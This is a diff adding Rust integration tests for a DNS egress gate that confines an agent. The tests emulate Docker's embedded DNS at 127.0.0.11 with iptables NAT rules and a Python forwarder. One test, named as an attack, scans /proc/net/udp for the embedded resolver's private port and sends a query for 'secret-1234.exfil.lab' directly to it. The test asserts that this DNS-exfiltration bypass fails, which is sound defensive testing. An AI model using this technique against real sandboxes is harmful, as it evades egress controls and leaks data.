@@ -567,3 +567,205 @@ fn a_loopback_without_ipv6_still_boots_and_the_gate_answers_over_ipv4() {
     assert!(run.stderr.contains("dns gate: IPv4 only"), "{}", run.stderr);
     assert_eq!(result(run.check(&connect)), "connected", "{}", run.stderr);
 }
+
+/// Docker's embedded DNS, as dockerd lays it out in a container's namespace: its sockets on
+/// 127.0.0.11 at a port of its own ([`EMBEDDED_PORT`]), and `nat` rules that send
+/// 127.0.0.11:53 there and make its answers come from port 53 (moby
+/// `daemon/libnetwork/resolver.go`, `setupIPTable`).
+const EMBEDDED_PORT: &str = "40000";
+
+fn docker_embedded_dns_nat(lab: &Lab) {
+    let to = format!("127.0.0.11:{EMBEDDED_PORT}");
+    for rule in [
+        vec![
+            "-t",
+            "nat",
+            "-A",
+            "OUTPUT",
+            "-d",
+            "127.0.0.11/32",
+            "-p",
+            "udp",
+            "--dport",
+            "53",
+            "-j",
+            "DNAT",
+            "--to-destination",
+            &to,
+        ],
+        vec![
+            "-t",
+            "nat",
+            "-A",
+            "POSTROUTING",
+            "-s",
+            "127.0.0.11/32",
+            "-p",
+            "udp",
+            "--sport",
+            EMBEDDED_PORT,
+            "-j",
+            "SNAT",
+            "--to-source",
+            ":53",
+        ],
+    ] {
+        let mut args = vec!["iptables"];
+        args.extend(rule);
+        let out = lab.exec(&lab.agent, &args);
+        assert!(out.status.success(), "{args:?}: {out:?}");
+    }
+    lab.set_resolv_conf("nameserver 127.0.0.11\n");
+}
+
+/// A child of this test, killed (by its own pid) when the test ends.
+struct Owned(std::process::Child);
+
+impl Drop for Owned {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// dockerd's embedded DNS forwarding to a resolver on the host's loopback (moby:
+/// `HostLoopback`, dialled from the host's namespace, not the container's): its listening
+/// socket is made in the agent's namespace, its upstream socket in world's, where the lab's
+/// dnsmasq (whose query log is the witness) plays the host's resolver.
+const EMBEDDED_HOST_LOOPBACK: &str = r#"
+import ctypes, os, socket, sys
+libc = ctypes.CDLL(None, use_errno=True)
+home = os.open("/proc/self/ns/net", os.O_RDONLY)
+assert libc.setns(os.open(sys.argv[1], os.O_RDONLY), 0x40000000) == 0
+listen = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+listen.bind(("127.0.0.11", int(sys.argv[3])))
+assert libc.setns(home, 0x40000000) == 0
+log = open(sys.argv[2], "a", buffering=1)
+log.write("ready\n")
+while True:
+    q, peer = listen.recvfrom(4096)
+    i, labels = 12, []
+    while i < len(q) and q[i]:
+        labels.append(q[i + 1:i + 1 + q[i]].decode("ascii", "replace")); i += 1 + q[i]
+    log.write("query %s from %s\n" % (".".join(labels), peer[0]))
+    up = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); up.settimeout(2)
+    try:
+        up.sendto(q, (sys.argv[4], 53)); listen.sendto(up.recv(4096), peer)
+    except OSError as e:
+        log.write("upstream %s\n" % e)
+    up.close()
+"#;
+
+/// The attack: Docker's embedded DNS listens on 127.0.0.11 at a port of its own, which the
+/// agent reads in `/proc/net/udp`. The `nat` redirect catches port 53 only, and loopback is
+/// accepted: a query sent to that port never meets the gate. Where dockerd forwards from the
+/// host's namespace (a resolver on the host's loopback), a name that is not allowlisted
+/// reaches the host's resolver: DNS exfiltration in `allowlist` egress.
+#[test]
+fn attack_the_agent_cannot_reach_dockers_embedded_dns_at_its_own_port() {
+    if !require_root("lab tier (network namespaces)") {
+        return;
+    }
+    let lab = Lab::up();
+    let log = lab.dir.path().join("embedded.log");
+    let _embedded = Owned(
+        std::process::Command::new("ip")
+            .args(["netns", "exec", &lab.world, "python3", "-c"])
+            .arg(EMBEDDED_HOST_LOOPBACK)
+            .arg(format!("/run/netns/{}", lab.agent))
+            .arg(&log)
+            .arg(EMBEDDED_PORT)
+            .arg(addr::DNS_V4)
+            .spawn()
+            .expect("start the embedded DNS"),
+    );
+    wait_for(&log, "the embedded DNS");
+    docker_embedded_dns_nat(&lab);
+    let config = policy(&lab, "allowlist", &["api.lab"], "");
+    let script = format!(
+        r#"{PY_QUERY}
+c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.settimeout(3)
+c.sendto(msg(1, "api.lab"), ("127.0.0.11", 53))
+try: r = c.recv(512); print("gate rcode", r[3] & 15, "answered", answered(r))
+except socket.timeout: print("gate rcode none")
+ports = sorted({{int(l.split()[1].split(":")[1], 16) for l in open("/proc/net/udp").read().splitlines()[1:] if l.split()[1].startswith("0B00007F:")}})
+print("ports", ports)
+for p in ports:
+    d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); d.settimeout(3)
+    try: d.sendto(msg(2, "secret-1234.exfil.lab"), ("127.0.0.11", p)); r = d.recv(512); print("direct", p, "rcode", r[3] & 15)
+    except OSError as e: print("direct", p, "error", e)
+"#
+    );
+    let child = spawn_agent_script(&lab, &config, &format!("exec python3 -c '{script}'"));
+    let (code, stdout, stderr) = finish(child);
+    let embedded = std::fs::read_to_string(&log).unwrap_or_default();
+    assert_eq!(code, Some(0), "{stdout}\n{stderr}");
+    assert!(
+        stdout.contains("gate rcode 0 answered True"),
+        "control: the allowlisted name through the gate: {stdout}\n{stderr}\n{embedded}"
+    );
+    assert!(
+        !lab.dns_log().contains("secret-1234.exfil.lab"),
+        "a name that is not allowlisted reached the resolver past the gate:\n{stdout}\n\
+         embedded DNS: {embedded}\nresolver: {}",
+        lab.dns_log()
+    );
+}
+
+/// Docker's embedded DNS forwarding from the container's own namespace (moby's default for a
+/// resolver that is not on the host's loopback: `dialExtDNS` runs `ExecFunc`), played by a
+/// dnsmasq on 127.0.0.11 that forwards to the lab's resolver. Its upstream queries are DNS
+/// from a process that is not the gate: the redirect hands them back to the gate, which asks
+/// 127.0.0.11 again. An allowlisted name must still resolve.
+#[test]
+fn an_allowlisted_name_resolves_through_an_embedded_dns_that_forwards_from_the_container() {
+    if !require_root("lab tier (network namespaces)") {
+        return;
+    }
+    let lab = Lab::up();
+    let log = lab.dir.path().join("embedded-dnsmasq.log");
+    let _embedded = Owned(
+        std::process::Command::new("ip")
+            .args(["netns", "exec", &lab.agent, "/usr/sbin/dnsmasq"])
+            .args([
+                "--keep-in-foreground",
+                "--no-resolv",
+                "--no-hosts",
+                "--conf-file=/dev/null",
+                "--pid-file=",
+                "--user=root",
+                "--group=root",
+                "--bind-interfaces",
+                "--listen-address=127.0.0.11",
+                "--cache-size=0",
+                "--log-queries",
+            ])
+            .arg(format!("--port={EMBEDDED_PORT}"))
+            .arg(format!("--server={}", addr::DNS_V4))
+            .arg(format!("--log-facility={}", log.display()))
+            .spawn()
+            .expect("start the embedded DNS"),
+    );
+    wait_for(&log, "the embedded DNS");
+    docker_embedded_dns_nat(&lab);
+    let config = policy(&lab, "allowlist", &["api.lab"], "");
+    let script = format!(
+        r#"{PY_QUERY}
+c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.settimeout(8)
+c.sendto(msg(1, "api.lab"), ("127.0.0.11", 53))
+try: r = c.recv(512); print("gate rcode", r[3] & 15, "answered", answered(r))
+except socket.timeout: print("gate rcode none")
+"#
+    );
+    let child = spawn_agent_script(&lab, &config, &format!("exec python3 -c '{script}'"));
+    let (code, stdout, stderr) = finish(child);
+    let embedded = std::fs::read_to_string(&log).unwrap_or_default();
+    let asked = embedded.matches("api.lab from 127.0.0.1").count();
+    assert_eq!(code, Some(0), "{stdout}\n{stderr}");
+    assert!(
+        stdout.contains("gate rcode 0 answered True"),
+        "the allowlisted name did not resolve; the embedded DNS was asked {asked} times:\n\
+         {stdout}\nembedded DNS: {embedded}\nresolver: {}",
+        lab.dns_log()
+    );
+}
